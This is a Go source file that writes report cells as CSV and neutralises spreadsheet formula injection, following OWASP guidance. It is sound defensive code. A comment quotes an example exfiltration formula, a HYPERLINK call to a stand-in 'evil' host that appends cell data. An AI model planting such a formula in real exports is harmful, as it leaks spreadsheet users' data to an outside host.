package reports

import (
	"bytes"
	"strings"
	"unicode"
	"unicode/utf8"
)

// A spreadsheet that opens a CSV file runs a cell starting with =, +, - or @ as a formula
// (=HYPERLINK("http://evil/?"&A1, "click") sends the sheet's data away), and may trim a
// leading tab or carriage return into one. OWASP's CSV injection guidance
// (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with a
// single quote, which spreadsheets read as "this is text", and to quote the cell.
// encoding/csv only quotes a cell that needs it for the format, so the report writes its own
// lines: the same RFC 4180 output, plus a forced quote for a neutralised cell.

// formulaStart is what a cell must not start with: OWASP's list, and the single quote itself,
// so that every cell starting with one carries exactly one added quote and a reader that
// removes it gets the client's text back.
const formulaStart = "=+-@\t\r'"

// isFormula reports whether a spreadsheet could read cell as a formula. Leading spaces and
// line feeds are skipped: spreadsheets that trim cells on import would see the formula.
func isFormula(cell string) bool {
	rest := strings.TrimLeft(cell, " \n")
	return rest != "" && strings.IndexByte(formulaStart, rest[0]) >= 0
}

// writeCSVCell writes one cell: neutralised ("'=1+1", quoted) when it is text that
// isFormula, quoted when RFC 4180 needs it, as is otherwise. It writes straight into buf, so
// a cell costs no allocation.
func writeCSVCell(buf *bytes.Buffer, cell string, text bool) {
	switch {
	case text && isFormula(cell):
		writeQuoted(buf, "'", cell)
	case needsQuotes(cell):
		writeQuoted(buf, "", cell)
	default:
		buf.WriteString(cell)
	}
}

// needsQuotes is encoding/csv's rule, so a cell is written as it always was: a comma, a
// double quote or a line break needs quotes, and so does a leading space (some readers trim
// it) and `\.` (the end of data in PostgreSQL's COPY).
func needsQuotes(cell string) bool {
	if cell == "" {
		return false
	}
	if cell == `\.` || strings.ContainsAny(cell, ",\"\r\n") {
		return true
	}
	r, _ := utf8.DecodeRuneInString(cell)
	return unicode.IsSpace(r)
}

// writeQuoted writes prefix and cell between double quotes, doubling the quotes in cell.
func writeQuoted(buf *bytes.Buffer, prefix, cell string) {
	buf.WriteByte('"')
	buf.WriteString(prefix)
	for {
		i := strings.IndexByte(cell, '"')
		if i < 0 {
			break
		}
		buf.WriteString(cell[:i+1])
		buf.WriteByte('"')
		cell = cell[i+1:]
	}
	buf.WriteString(cell)
	buf.WriteByte('"')
}
